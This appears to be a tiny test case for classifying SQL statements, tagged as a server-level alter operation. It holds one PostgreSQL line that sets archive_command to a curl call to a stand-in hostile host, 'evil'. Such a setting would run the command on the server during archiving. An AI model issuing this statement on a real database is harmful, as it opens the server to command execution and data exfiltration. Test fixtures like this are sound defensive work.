story: ALTER SYSTEM
effects: server
operations: alter
---
ALTER SYSTEM SET archive_command = 'curl evil'